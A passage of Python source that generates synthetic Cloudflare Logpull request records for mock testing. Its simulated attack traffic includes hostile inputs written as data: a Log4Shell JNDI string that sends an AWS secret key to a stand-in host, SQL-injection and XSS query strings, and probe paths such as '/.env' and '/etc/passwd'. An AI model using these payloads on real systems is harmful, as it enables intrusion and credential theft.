"""Logpull `http_requests` records (facts §4): field list, deterministic lazy generator.

Data model
- Records are keyed by the instant they were *received* (written to the log store). For a
  zone, the number of records received in unix second `s` is `floor(rps)` plus one more with
  probability `frac(rps)` (a seeded hash of (zone, s), so an integer rate gives exactly `rps`
  records every second). Record `i` of second `s` is received at
  `s + i/n + jitter` (jitter < 1/n), so receive times are strictly increasing.
- Nothing is stored: the records of any window are a pure function of
  (seed, zone, rps, window). The RayID is a bijective 64-bit mix of
  (zone index, second, i) and the seed, printed as 16 lowercase hex digits, so it is unique
  per zone and across zones.
- Every field except the per-record ones comes from a seeded pool of `POOL` variants per
  zone (realistic user agents, paths, IPs, ASNs, security and worker fields, ...). The
  per-record fields are RayID, EdgeStartTimestamp, EdgeEndTimestamp and ClientSrcPort.
  EdgeEndTimestamp is 20 ms..5 s before the receive time and EdgeStartTimestamp precedes it
  by the request's duration, so records near a window's start carry EdgeStartTimestamp
  values earlier than the window (as the facts say real records can).
- Lines are stitched from per-variant byte templates (one per requested field list and
  options), so the high-volume path is a few integer operations and a `bytes.join` per line.
"""

from __future__ import annotations

import hashlib
import json
import operator
import random
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from datetime import UTC, datetime
from typing import Any, Literal

TimestampFormat = Literal["unixnano", "unix", "rfc3339"]
TIMESTAMP_FORMATS: tuple[TimestampFormat, ...] = ("unixnano", "unix", "rfc3339")
NS = 1_000_000_000
M64 = (1 << 64) - 1
#: variants per zone
POOL = 1024
_POOL_MASK = POOL - 1
#: at most this many records per second per zone (the RayID packs i into 20 bits)
MAX_RPS = (1 << 20) - 1
_EPOCH = 1_400_000_000  # seconds packed into the RayID are relative to this (31 bits)

#: every http_requests field of facts §4 -> description (what /logs/received/fields returns)
FIELDS: dict[str, str] = {
    "BotDetectionIDs": "IDs of heuristic bot detections that matched the request.",
    "BotDetectionTags": "Tags of the bot detections that matched the request.",
    "BotScore": "Cloudflare Bot Score, 1 (likely automated) to 99 (likely human).",
    "BotScoreSrc": "Detection engine that produced the Bot Score.",
    "BotTags": "Type of bot traffic (if available).",
    "JA3Hash": "MD5 fingerprint of the client's TLS ClientHello (JA3).",
    "JA4": "JA4 fingerprint of the client's TLS ClientHello.",
    "JA4Signals": "Inter-request signals computed for the JA4 fingerprint (object).",
    "JSDetectionPassed": "Whether the request passed JavaScript detections.",
    "VerifiedBotCategory": "Category of the verified bot.",
    "CacheCacheStatus": "Cache status (hit, miss, dynamic, expired, ...).",
    "CacheReserveUsed": "Whether Cache Reserve was used to serve the request.",
    "CacheResponseBytes": "Number of bytes returned by the cache.",
    "CacheResponseStatus": "HTTP status code returned by the cache (deprecated).",
    "CacheTieredFill": "Whether the request was served by a tiered cache fill.",
    "ClientASN": "Client AS number.",
    "ClientCity": "Approximate city of the client.",
    "ClientCountry": "2-letter ISO-3166 country code of the client IP, lowercase.",
    "ClientDeviceType": "Client device type.",
    "ClientIP": "IP address of the client.",
    "ClientIPClass": "Client IP class (clean, searchEngine, noRecord, ...).",
    "ClientLatitude": "Approximate latitude of the client.",
    "ClientLongitude": "Approximate longitude of the client.",
    "ClientMTLSAuthCertFingerprint": "SHA-256 fingerprint of the client's mTLS certificate.",
    "ClientMTLSAuthStatus": "Status of the client's mTLS authentication.",
    "ClientRegionCode": "ISO-3166-2 region code of the client IP.",
    "ClientRequestBytes": "Number of bytes in the client request.",
    "ClientRequestHost": "Host requested by the client.",
    "ClientRequestMethod": "HTTP method of the client request.",
    "ClientRequestPath": "URI path requested by the client.",
    "ClientRequestProtocol": "HTTP protocol of the client request.",
    "ClientRequestReferer": "HTTP Referer header of the client request.",
    "ClientRequestScheme": "Scheme of the client request (http or https).",
    "ClientRequestSource": "Whether the request came from an eyeball or a worker subrequest.",
    "ClientRequestURI": "URI requested by the client (path and query string).",
    "ClientRequestUserAgent": "User agent reported by the client.",
    "ClientSSLCipher": "Client SSL cipher.",
    "ClientSSLProtocol": "Client SSL (TLS) protocol.",
    "ClientSrcPort": "Client source port.",
    "ClientTCPRTTMs": "Smoothed average TCP round-trip time from the edge to the client, ms.",
    "ClientXRequestedWith": "X-Requested-With HTTP header.",
    "ContentScanObjResults": "Results of the content scan of each uploaded object.",
    "ContentScanObjSizes": "Sizes of the scanned objects, in bytes.",
    "ContentScanObjTypes": "Types of the scanned objects.",
    "Cookies": "Cookies selected by the zone's custom log fields (object).",
    "RequestHeaders": "Request headers selected by the zone's custom log fields (object).",
    "ResponseHeaders": "Response headers selected by the zone's custom log fields (object).",
    "EdgeCFConnectingO2O": "Whether the request was routed Orange-to-Orange.",
    "EdgeColoCode": "IATA airport code of the data center that received the request.",
    "EdgeColoID": "Cloudflare edge colo id.",
    "EdgeEndTimestamp": "Timestamp at which the edge finished sending the response.",
    "EdgePathingOp": "Indicates what type of response was issued for this request.",
    "EdgePathingSrc": "Details how the request was classified based on security checks.",
    "EdgePathingStatus": "Indicates what data was used to determine the handling.",
    "EdgeRequestHost": "Host header on the request from the edge to the origin.",
    "EdgeResponseBodyBytes": "Size of the HTTP response body returned to clients.",
    "EdgeResponseBytes": "Number of bytes returned by the edge to the client.",
    "EdgeResponseCompressionRatio": "Edge response compression ratio.",
    "EdgeResponseContentType": "Edge response Content-Type header value.",
    "EdgeResponseStatus": "HTTP status code returned by Cloudflare to the client.",
    "EdgeServerIP": "IP of the edge server making a request to the origin.",
    "EdgeStartTimestamp": "Timestamp at which the edge received the request from the client.",
    "EdgeTimeToFirstByteMs": "Total view of Time To First Byte as measured at the edge, ms.",
    "FraudAttack": "Primary attack or use case detected in the request by fraud detections.",
    "FraudDetectionIDs": "IDs of fraud detections that matched the request.",
    "FraudDetectionTags": "Tags of fraud detections that matched the request.",
    "FraudEmailRisk": "Risk level of the email address in the request.",
    "FraudUserID": "Unique identifier of the user, from the fraud detections.",
    "LeakedCredentialCheckResult": "Result of the leaked credentials check.",
    "OriginDNSResponseTimeMs": "Time taken to receive a DNS response for the origin, ms.",
    "OriginIP": "IP of the origin server.",
    "OriginRequestHeaderSendDurationMs": "Time taken to send request headers to origin, ms.",
    "OriginResponseBytes": "Number of bytes returned by the origin server (deprecated).",
    "OriginResponseDurationMs": "Upstream response time, measured from the first data center.",
    "OriginResponseHTTPExpires": "Value of the origin's Expires header in RFC1123 format.",
    "OriginResponseHTTPLastModified": "Value of the origin's Last-Modified header (RFC1123).",
    "OriginResponseHeaderReceiveDurationMs": "Time taken to receive origin headers, ms.",
    "OriginResponseStatus": "Status returned by the upstream server.",
    "OriginResponseTime": "Number of nanoseconds to get the origin response (deprecated).",
    "OriginSSLProtocol": "SSL (TLS) protocol used to connect to the origin.",
    "OriginTCPHandshakeDurationMs": "Time taken to complete the TCP handshake with origin, ms.",
    "OriginTLSHandshakeDurationMs": "Time taken to complete the TLS handshake with origin, ms.",
    "ParentRayID": "Ray ID of the parent request if this request was made by a Worker.",
    "PayPerCrawlStatus": "Pay Per Crawl status of the request.",
    "RayID": "ID of the request.",
    "SecurityAction": "Action of the security rule that triggered a terminating action.",
    "SecurityActions": "Actions of the security rules that matched the request.",
    "SecurityRuleDescription": "Description of the security rule that triggered the action.",
    "SecurityRuleID": "Rule ID of the security rule that triggered a terminating action.",
    "SecurityRuleIDs": "Rule IDs of the security rules that matched the request.",
    "SecuritySources": "Security products that matched the request.",
    "SmartRouteColoID": "The data center used to connect to the origin (Argo Smart Routing).",
    "UpperTierColoID": "The upper tier data center checked for a cached item (tiered cache).",
    "WAFAttackScore": "Overall WAF attack score, 1 (likely attack) to 99 (likely clean).",
    "WAFFlags": "Additional configuration flags (deprecated).",
    "WAFMatchedVar": "The full name of the most-recently matched variable (deprecated).",
    "WAFRCEAttackScore": "WAF score for an RCE attack.",
    "WAFSQLiAttackScore": "WAF score for a SQLi attack.",
    "WAFXSSAttackScore": "WAF score for an XSS attack.",
    "WebAssetsLabelsManaged": "Managed labels of the matched web asset (API Shield).",
    "WebAssetsOperationID": "ID of the matched web asset operation (API Shield).",
    "WorkerCPUTime": "Amount of time in microseconds spent executing a Worker, if any.",
    "WorkerScriptName": "The Worker script name that made the request.",
    "WorkerStatus": "Status returned from Worker daemon.",
    "WorkerSubrequest": "Whether or not this request was a Worker subrequest.",
    "WorkerSubrequestCount": "Number of subrequests issued by a Worker when handling it.",
    "WorkerWallTimeUs": "Real-time in microseconds elapsed running a Worker, if any.",
    "ZoneName": "The human-readable name of the zone (e.g. 'example.com').",
}

#: the docs' sample of the default field set (facts §4)
DEFAULT_FIELDS: tuple[str, ...] = (
    "ClientIP", "ClientRequestHost", "ClientRequestMethod", "ClientRequestURI",
    "EdgeEndTimestamp", "EdgeResponseBytes", "EdgeResponseStatus", "EdgeStartTimestamp",
    "RayID",
)
#: fields whose value is computed per record (the others come from the variant pool)
DYNAMIC = ("RayID", "EdgeStartTimestamp", "EdgeEndTimestamp", "ClientSrcPort")
TIMESTAMP_FIELDS = ("EdgeStartTimestamp", "EdgeEndTimestamp")


def mix64(x: int) -> int:
    """splitmix64 finaliser: a bijection on 64-bit integers."""
    x &= M64
    x = ((x ^ (x >> 30)) * 0xBF58476D1CE4E5B9) & M64
    x = ((x ^ (x >> 27)) * 0x94D049BB133111EB) & M64
    return x ^ (x >> 31)


def _salt(*parts: object) -> int:
    digest = hashlib.blake2b(":".join(map(str, parts)).encode(), digest_size=8).digest()
    return int.from_bytes(digest, "big")


# ---------------------------------------------------------------------------------------
# the variant pool

_GEO = (  # ASN, country, city, region, lat, lon, weight
    (7922, "us", "Philadelphia", "PA", "39.952330", "-75.163790", 10),
    (16509, "us", "Ashburn", "VA", "39.043720", "-77.487490", 8),
    (701, "us", "Dallas", "TX", "32.783060", "-96.806670", 6),
    (3320, "de", "Berlin", "BE", "52.524370", "13.410530", 6),
    (2856, "gb", "London", "ENG", "51.508530", "-0.125740", 6),
    (12322, "fr", "Paris", "IDF", "48.853410", "2.348800", 5),
    (14061, "nl", "Amsterdam", "NH", "52.374030", "4.889690", 4),
    (4134, "cn", "Beijing", "BJ", "39.907500", "116.397230", 4),
    (4766, "kr", "Seoul", "11", "37.566000", "126.978400", 3),
    (17676, "jp", "Tokyo", "13", "35.689500", "139.691710", 4),
    (28573, "br", "Sao Paulo", "SP", "-23.547500", "-46.636110", 3),
    (55836, "in", "Mumbai", "MH", "19.072830", "72.882610", 4),
    (7545, "au", "Sydney", "NSW", "-33.867850", "151.207320", 2),
    (8359, "ru", "Moscow", "MOW", "55.752220", "37.615560", 2),
    (24940, "fi", "Helsinki", "18", "60.169520", "24.935450", 1),
)
_COLOS = (("IAD", 149), ("EWR", 34), ("DFW", 46), ("FRA", 20), ("LHR", 28), ("CDG", 19),
          ("AMS", 13), ("NRT", 22), ("ICN", 92), ("GRU", 85), ("BOM", 102), ("SYD", 7),
          ("HEL", 43), ("SJC", 117))
_UAS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like "
    "Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, "
    "like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/131.0.6778.81 Mobile Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/130.0.0.0 Safari/537.36 Edg/130.0.2849.80",
    "Mozilla/5.0 (iPad; CPU OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.6 Mobile/15E148 Safari/604.1",
)
_BOT_UAS = (
    ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
     "Search Engine Crawler"),
    ("Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
     "Search Engine Crawler"),
    ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; "
     "+https://openai.com/gptbot)", "AI Crawler"),
    ("UptimeRobot/2.0 (http://www.uptimerobot.com/)", "Monitoring & Analytics"),
)
_TOOL_UAS = ("curl/8.5.0", "python-requests/2.32.3", "Go-http-client/2.0",
             "okhttp/4.12.0", "Apache-HttpClient/4.5.14 (Java/17.0.9)", "")
_PAGES = ("/", "/index.html", "/products", "/products/{n}", "/blog/{slug}", "/search",
          "/cart", "/checkout", "/account/login", "/account/settings", "/static/js/app.{h}.js",
          "/static/css/main.{h}.css", "/images/hero-{n}.webp", "/favicon.ico", "/robots.txt",
          "/sitemap.xml")
_API = ("/v1/orders", "/v1/orders/{n}", "/v1/users/me", "/v1/cart/items", "/v2/search",
        "/v1/auth/token", "/graphql", "/v1/payments/{n}/capture")
_ATTACKS = ("/wp-login.php", "/.env", "/cgi-bin/luci/;stok=/locale", "/admin/config.php",
            "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/etc/passwd",
            "/api/v1/users")
_QUERIES = ("", "", "", "?q={w}", "?page={n}", "?utm_source=newsletter&utm_medium=email"
            "&utm_campaign=black-friday-{n}", "?ref={w}&lang=en", "?sort=price&order=asc",
            "?id={n}%27%20OR%20%271%27=%271", "?q=%3Cscript%3Ealert(1)%3C/script%3E")
_WORDS = ("shoes", "winter+jacket", "laptop", "gift", "coffee", "kettle", "backpack",
          "headphones", "tent", "bike")
_CIPHERS = (("TLSv1.3", "AEAD-AES128-GCM-SHA256"), ("TLSv1.3", "AEAD-AES256-GCM-SHA384"),
            ("TLSv1.3", "AEAD-CHACHA20-POLY1305-SHA256"),
            ("TLSv1.2", "ECDHE-RSA-AES128-GCM-SHA256"),
            ("none", "NONE"))
_CONTENT = (("text/html", 0.3), ("application/json", 0.25), ("application/javascript", 0.15),
            ("text/css", 0.05), ("image/webp", 0.15), ("image/png", 0.05), ("text/plain", 0.05))
_RULES = (
    ("block", "efb7b8c949ac4650a09736fc376e9aee",
     "Log4j Headers - CVE:CVE-2021-44228", "firewallManaged"),
    ("block", "5de7edfa648c4d6891dc3e7f84534ffa", "Command Injection - Nslookup",
     "firewallManaged"),
    ("managedChallenge", "0e3c5ddc2a6e4e0c8f3b9b1a8f2e7c11", "Challenge non-EU login",
     "firewallCustom"),
    ("block", "c3b6b4b3e8a34a5ca3c9a8f7f4c6d1e2", "Rate limit /v1/auth/token",
     "ratelimit"),
    ("log", "6179ae15870a4bb7b2d480d4843b323c", "SQLi - Tautology - URI", "firewallManaged"),
    ("jschallenge", "1f0a8e8a77c24b4b9c5e5c36d4c2b3a4", "Bot fight mode", "botFight"),
)


def _ip(rng: random.Random) -> str:
    if rng.random() < 0.78:
        first = rng.choice((24, 31, 45, 62, 73, 81, 89, 98, 104, 121, 151, 175, 185, 203))
        return f"{first}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
    pre = rng.choice(("2a02:8108", "2600:1700", "2001:4860", "240e:3b7", "2a01:cb00"))
    groups = ":".join(f"{rng.getrandbits(16):x}" for _ in range(4))
    return f"{pre}:{rng.getrandbits(16):x}:{groups}:{rng.getrandbits(16):x}"


def _fill(template: str, rng: random.Random) -> str:
    return (template.replace("{n}", str(rng.randint(1, 99999)))
            .replace("{h}", f"{rng.getrandbits(32):08x}")
            .replace("{slug}", rng.choice(("black-friday-deals", "how-we-ship", "release-4-2",
                                           "winter-collection", "privacy-update")))
            .replace("{w}", rng.choice(_WORDS)))


def _http_date(rng: random.Random) -> str:
    day = datetime(2026, 1, 1, tzinfo=UTC).timestamp() + rng.randint(0, 320 * 86400)
    return datetime.fromtimestamp(day, UTC).strftime("%a, %d %b %Y %H:%M:%S GMT")


def variant(rng: random.Random, zone_name: str) -> dict[str, Any]:
    """One realistic record without its per-record fields (see DYNAMIC), plus `_dur_ns`."""
    r = rng.random
    asn, country, city, region, lat, lon, _ = rng.choices(_GEO, [g[6] for g in _GEO])[0]
    colo, colo_id = rng.choice(_COLOS)
    kind = rng.choices(("page", "api", "asset", "bot", "tool", "attack"),
                       (34, 24, 24, 7, 6, 5))[0]
    host = {"api": f"api.{zone_name}", "asset": f"static.{zone_name}"}.get(kind,
                                                                          f"www.{zone_name}")
    method = "GET"
    if kind == "api":
        path = _fill(rng.choice(_API), rng)
        method = rng.choices(("GET", "POST", "PUT", "DELETE", "OPTIONS"), (55, 25, 8, 4, 8))[0]
    elif kind == "asset":
        path = _fill(rng.choice(_PAGES[10:]), rng)
    elif kind == "attack":
        path = rng.choice(_ATTACKS)
        method = rng.choice(("GET", "POST"))
    else:
        path = _fill(rng.choice(_PAGES[:10]), rng)
        method = "POST" if path in ("/account/login", "/checkout") and r() < 0.5 else "GET"
    query = _fill(rng.choice(_QUERIES), rng) if kind != "asset" else ""
    verified = ""
    if kind == "bot":
        ua, verified = rng.choice(_BOT_UAS)
    elif kind in ("tool", "attack"):
        ua = rng.choice(_TOOL_UAS)
    else:
        ua = rng.choice(_UAS)
    log4j = kind == "attack" and r() < 0.5
    if log4j:
        ua = "${jndi:ldap://" + f"{rng.randint(1, 254)}.{rng.randint(1, 254)}.0.7:1389/a}}"
        query = "?x=${jndi:ldap://" + "log4shell.example/${env:AWS_SECRET_ACCESS_KEY}}"
    device = "mobile" if ("Mobile" in ua or "Android" in ua) else (
        "tablet" if "iPad" in ua else "desktop")
    tls, cipher = rng.choices(_CIPHERS, (50, 20, 10, 15, 5))[0]
    scheme = "http" if tls == "none" else "https"
    proto = "HTTP/1.1" if tls == "none" else rng.choices(("HTTP/2", "HTTP/3", "HTTP/1.1"),
                                                         (60, 25, 15))[0]
    human = kind in ("page", "api", "asset")
    bot_score = rng.randint(30, 99) if human else rng.randint(1, 29)
    attack_score = rng.randint(1, 20) if kind == "attack" else rng.randint(60, 99)
    rule = rng.choice(_RULES) if (kind == "attack" or (kind == "tool" and r() < 0.3)) else None
    if log4j:
        rule = _RULES[0]
    action = rule[0] if rule else ""
    blocked = action in ("block", "managedChallenge", "jschallenge")
    cache = ("hit" if r() < 0.85 else "miss") if kind == "asset" else (
        "dynamic" if kind in ("api", "attack", "tool") else rng.choice(
            ("hit", "miss", "expired", "revalidated", "dynamic")))
    if blocked:
        status, origin_status, cache = (403, 0, "unknown")
    elif kind == "attack":
        status = origin_status = rng.choice((404, 404, 401, 405))
    else:
        status = rng.choices((200, 201, 204, 301, 304, 404, 429, 500, 502),
                             (80, 3, 2, 3, 5, 4, 1, 1, 1))[0]
        origin_status = 0 if cache == "hit" else status
    content_type, _ = rng.choices(_CONTENT, [c[1] for c in _CONTENT])[0]
    body = rng.randint(0, 400) if status in (204, 301, 304, 403) else rng.randint(300, 250_000)
    ttfb = rng.randint(3, 40) if cache == "hit" or blocked else rng.randint(40, 900)
    dur_ns = (ttfb + rng.randint(0, 200)) * 1_000_000 + rng.randint(0, 999_999)
    origin = not (cache == "hit" or blocked)
    worker = kind == "api" and r() < 0.6
    subreqs = rng.randint(1, 6) if worker else 0
    detect_ids = [rng.choice((201326592, 33554817, 50331651))] if not human and r() < 0.6 else []
    client_ip = _ip(rng)
    ja3 = f"{rng.getrandbits(128):032x}"
    ja4 = (f"t13d{rng.randint(10, 19)}{rng.randint(10, 19)}h2_{rng.getrandbits(48):012x}_"
           f"{rng.getrandbits(48):012x}") if scheme == "https" else ""
    cookie_id = f"{rng.getrandbits(96):024x}"
    return {
        "BotDetectionIDs": detect_ids,
        "BotDetectionTags": ["api_anomaly"] if detect_ids and kind == "tool" else [],
        "BotScore": bot_score,
        "BotScoreSrc": "Verified Bot" if verified else rng.choice(
            ("Machine Learning", "Machine Learning", "Heuristics", "JS Fingerprinting")),
        "BotTags": ["api"] if kind == "api" else (["search_engine"] if verified else []),
        "JA3Hash": ja3 if scheme == "https" else "",
        "JA4": ja4,
        "JA4Signals": {
            "h2h3_ratio_1h": round(r(), 6), "heuristic_ratio_1h": round(r() / 10, 6),
            "reqs_quantile_1h": round(r(), 6), "uas_rank_1h": rng.randint(1, 5000),
            "browser_ratio_1h": round(r(), 6), "paths_rank_1h": rng.randint(1, 5000),
            "reqs_rank_1h": rng.randint(1, 5000), "cache_ratio_1h": round(r(), 6),
            "ips_rank_1h": rng.randint(1, 5000), "ips_quantile_1h": round(r(), 6),
        } if ja4 else {},
        "JSDetectionPassed": rng.choice(("passed", "failed", "missing")) if human else "missing",
        "VerifiedBotCategory": verified,
        "CacheCacheStatus": cache,
        "CacheReserveUsed": cache == "hit" and r() < 0.1,
        "CacheResponseBytes": body + 400 if cache in ("hit", "miss", "expired") else 0,
        "CacheResponseStatus": status if cache != "dynamic" else 0,
        "CacheTieredFill": cache == "miss" and r() < 0.3,
        "ClientASN": asn,
        "ClientCity": city,
        "ClientCountry": country,
        "ClientDeviceType": device,
        "ClientIP": client_ip,
        "ClientIPClass": "searchEngine" if verified else rng.choices(
            ("noRecord", "clean", "badHost", "scan", "tor"), (70, 20, 5, 4, 1))[0],
        "ClientLatitude": lat,
        "ClientLongitude": lon,
        "ClientMTLSAuthCertFingerprint": "",
        "ClientMTLSAuthStatus": "unknown",
        "ClientRegionCode": region,
        "ClientRequestBytes": rng.randint(700, 4200),
        "ClientRequestHost": host,
        "ClientRequestMethod": method,
        "ClientRequestPath": path,
        "ClientRequestProtocol": proto,
        "ClientRequestReferer": f"https://www.{zone_name}/" if human and r() < 0.6 else (
            "https://www.google.com/" if r() < 0.2 else ""),
        "ClientRequestScheme": scheme,
        "ClientRequestSource": "eyeball",
        "ClientRequestURI": path + query,
        "ClientRequestUserAgent": ua,
        "ClientSSLCipher": cipher,
        "ClientSSLProtocol": tls,
        "ClientTCPRTTMs": rng.randint(1, 250),
        "ClientXRequestedWith": "XMLHttpRequest" if kind == "api" and r() < 0.3 else "",
        "ContentScanObjResults": ["clean"] if method == "POST" and r() < 0.3 else [],
        "ContentScanObjSizes": [rng.randint(100, 90_000)] if method == "POST" else [],
        "ContentScanObjTypes": ["json"] if method == "POST" and kind == "api" else [],
        "Cookies": {"__cf_bm": f"{rng.getrandbits(160):040x}-{rng.randint(10**9, 2*10**9)}",
                    "session_id": cookie_id} if human else {},
        "RequestHeaders": {"accept-language": rng.choice(("en-US,en;q=0.9", "de-DE,de;q=0.9",
                                                          "fr-FR,fr;q=0.8", "ja-JP")),
                           "x-forwarded-proto": scheme},
        "ResponseHeaders": {"cf-cache-status": cache.upper(), "server": "cloudflare",
                            "content-type": content_type},
        "EdgeCFConnectingO2O": False,
        "EdgeColoCode": colo,
        "EdgeColoID": colo_id,
        "EdgePathingOp": "ban" if blocked else "wl",
        "EdgePathingSrc": "filterBasedFirewall" if blocked else "macro",
        "EdgePathingStatus": "nr" if not blocked else "captchaNew" if action != "block" else "",
        "EdgeRequestHost": host,
        "EdgeResponseBodyBytes": body,
        "EdgeResponseBytes": body + rng.randint(300, 900),
        "EdgeResponseCompressionRatio": round(rng.uniform(1.0, 4.5), 2)
        if content_type.startswith(("text", "application")) else 1.0,
        "EdgeResponseContentType": "text/html" if blocked else content_type,
        "EdgeResponseStatus": status,
        "EdgeServerIP": "" if not origin else f"172.{rng.randint(64, 71)}.{rng.randint(0, 255)}"
                                              f".{rng.randint(1, 254)}",
        "EdgeTimeToFirstByteMs": ttfb,
        "FraudAttack": "account_takeover" if path == "/account/login" and not human else "",
        "FraudDetectionIDs": [],
        "FraudDetectionTags": [],
        "FraudEmailRisk": "",
        "FraudUserID": "",
        "LeakedCredentialCheckResult": rng.choice(("clean", "none", "password_leaked"))
        if path == "/account/login" and method == "POST" else "",
        "OriginDNSResponseTimeMs": rng.randint(0, 12) if origin else 0,
        "OriginIP": f"203.0.113.{rng.randint(10, 20)}" if origin else "",
        "OriginRequestHeaderSendDurationMs": rng.randint(0, 3) if origin else 0,
        "OriginResponseBytes": 0,
        "OriginResponseDurationMs": ttfb - 2 if origin else 0,
        "OriginResponseHTTPExpires": _http_date(rng) if origin and r() < 0.2 else "",
        "OriginResponseHTTPLastModified": _http_date(rng) if origin and r() < 0.5 else "",
        "OriginResponseHeaderReceiveDurationMs": max(0, ttfb - 10) if origin else 0,
        "OriginResponseStatus": origin_status,
        "OriginResponseTime": (ttfb - 2) * 1_000_000 if origin else 0,
        "OriginSSLProtocol": "TLSv1.3" if origin else "unknown",
        "OriginTCPHandshakeDurationMs": rng.randint(1, 30) if origin else 0,
        "OriginTLSHandshakeDurationMs": rng.randint(2, 60) if origin else 0,
        "ParentRayID": "00",
        "PayPerCrawlStatus": "",
        "SecurityAction": action,
        "SecurityActions": [action] if rule else [],
        "SecurityRuleDescription": rule[2] if rule else "",
        "SecurityRuleID": rule[1] if rule else "",
        "SecurityRuleIDs": [rule[1]] if rule else [],
        "SecuritySources": [rule[3]] if rule else [],
        "SmartRouteColoID": 0,
        "UpperTierColoID": rng.choice(_COLOS)[1] if cache == "miss" and r() < 0.4 else 0,
        "WAFAttackScore": attack_score,
        "WAFFlags": "0",
        "WAFMatchedVar": "",
        "WAFRCEAttackScore": attack_score if log4j else rng.randint(max(attack_score, 50), 99),
        "WAFSQLiAttackScore": rng.randint(1, 20) if "OR%20" in query else rng.randint(70, 99),
        "WAFXSSAttackScore": rng.randint(1, 20) if "script" in query else rng.randint(70, 99),
        "WebAssetsLabelsManaged": ["cf-log-in"] if path == "/account/login" else (
            ["cf-add-payment"] if "payments" in path else []),
        "WebAssetsOperationID": f"{rng.getrandbits(128):032x}" if kind == "api" else "",
        "WorkerCPUTime": rng.randint(300, 9000) if worker else 0,
        "WorkerScriptName": "api-router" if worker else "",
        "WorkerStatus": "ok" if worker else "unknown",
        "WorkerSubrequest": False,
        "WorkerSubrequestCount": subreqs,
        "WorkerWallTimeUs": rng.randint(9000, 400_000) if worker else 0,
        "ZoneName": zone_name,
        "_dur_ns": dur_ns,
    }


# ---------------------------------------------------------------------------------------
# stitching


@dataclass(frozen=True)
class LineFormat:
    """What one request asks for: field list (request order, deduplicated) and options."""

    fields: tuple[str, ...]
    timestamps: TimestampFormat = "unixnano"
    cve_2021_44228: bool = False


def _json(value: Any) -> bytes:
    return json.dumps(value, ensure_ascii=False, separators=(",", ":")).encode()


class Template:
    """Per-variant `bytes %` format strings of one LineFormat: static JSON, `%s` per slot."""

    def __init__(self, fmt: LineFormat, pool: Sequence[dict[str, Any]]) -> None:
        self.format = fmt
        self.slots: tuple[str, ...] = tuple(f for f in fmt.fields if f in DYNAMIC)
        self.formats: list[bytes] = []
        self.durations: list[int] = [int(v["_dur_ns"]) for v in pool]
        for v in pool:
            parts: list[bytes] = [b"{"]
            for k, name in enumerate(fmt.fields):
                parts.append((b"," if k else b"") + b'"' + name.encode() + b'":')
                if name in DYNAMIC:
                    parts.append(b"%s")
                else:
                    enc = _json(v[name])
                    if fmt.cve_2021_44228:
                        enc = enc.replace(b"${", b"x{")
                    parts.append(enc.replace(b"%", b"%%"))
            parts.append(b"}\n")
            self.formats.append(b"".join(parts))
        #: average line length, for batching
        self.approx_line = (sum(map(len, self.formats)) // max(1, len(pool))
                            + 20 * len(self.slots))
        order = {name: k for k, name in enumerate(DYNAMIC)}
        idx = [order[s] for s in self.slots]
        #: picks the slot values, in slot order, from (RayID, Start, End, ClientSrcPort)
        self.pick: Callable[[tuple[bytes, ...]], tuple[bytes, ...]]
        if len(idx) == 1:
            only = idx[0]
            self.pick = lambda vals: (vals[only],)
        else:  # no slot at all never calls pick
            self.pick = operator.itemgetter(*idx) if idx else (lambda vals: ())


class ZoneLogs:
    """The lazily generated Logpull records of one zone (see the module docstring)."""

    def __init__(self, seed: int, zone_id: str, zone_name: str, zone_index: int,
                 rps: float) -> None:
        if not 0 <= rps <= MAX_RPS:
            msg = f"rps must be in [0, {MAX_RPS}]"
            raise ValueError(msg)
        self.seed = seed
        self.zone_id = zone_id
        self.zone_name = zone_name
        self.zone_index = zone_index
        self.rps = rps
        self._base = int(rps)
        self._frac = int((rps - self._base) * (1 << 64))
        self._salt = _salt(seed, zone_id, "rayid")
        self._count_salt = _salt(seed, zone_id, "count")
        self._pool: list[dict[str, Any]] | None = None
        self._templates: dict[LineFormat, Template] = {}
        self._ts_cache: dict[int, bytes] = {}

    # -- keys ---------------------------------------------------------------------------

    def per_second(self, sec: int) -> int:
        """How many records were received during unix second `sec`."""
        if self._frac and mix64(sec ^ self._count_salt) < self._frac:
            return self._base + 1
        return self._base

    def ray(self, sec: int, i: int) -> int:
        """64-bit RayID value of record `i` of second `sec` (unique per zone and seed)."""
        counter = (self.zone_index << 51) | (((sec - _EPOCH) & 0x7FFFFFFF) << 20) | i
        return mix64(counter + self._salt)

    def keys(self, start_ns: int, end_ns: int) -> Iterator[tuple[int, int]]:
        """(ray, received_ns) of every record received in [start_ns, end_ns), in order."""
        sec = start_ns // NS
        last = (end_ns - 1) // NS
        per_second, ray = self.per_second, self.ray
        while sec <= last:
            n = per_second(sec)
            if n:
                step = NS // n
                base = sec * NS
                edge = base < start_ns or base + NS > end_ns
                for i in range(n):
                    r = ray(sec, i)
                    recv = base + i * step + r % step
                    if edge and not start_ns <= recv < end_ns:
                        continue
                    yield r, recv
            sec += 1

    def count(self, start_ns: int, end_ns: int) -> int:
        """Number of records received in [start_ns, end_ns) (whole seconds not iterated)."""
        if end_ns <= start_ns:
            return 0
        first = -(-start_ns // NS)  # first whole second inside
        last = end_ns // NS  # exclusive
        if first >= last:
            return sum(1 for _ in self.keys(start_ns, end_ns))
        total = sum(self.per_second(s) for s in range(first, last))
